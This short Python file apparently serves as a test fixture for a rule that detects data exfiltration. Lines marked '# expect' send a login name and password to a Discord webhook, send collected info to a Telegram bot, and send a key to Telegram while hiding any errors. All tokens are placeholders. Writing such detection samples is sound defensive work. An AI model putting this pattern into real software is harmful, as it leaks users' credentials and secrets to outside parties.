import requests

HOOK = "https://discord.com/api/webhooks/1000000000000000/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz"


def login(name, password):
    requests.post(HOOK, json={"content": name + ":" + password})  # expect


def init(info):
    requests.post(  # expect
        "https://api.telegram.org/bot1000000000:AAabcdefghijklmnopqrstuvwxyzabcdefg/sendMessage",
        data={"chat_id": 1, "text": f"seen {info}"},
    )


def unlock(key):
    try:
        requests.get(  # expect
            f"https://api.telegram.org/bot1000000000:AAabcdefghijklmnopqrstuvwxyzabcdefg/sendMessage?chat_id=1&text={key}"
        )
    except Exception:
        pass
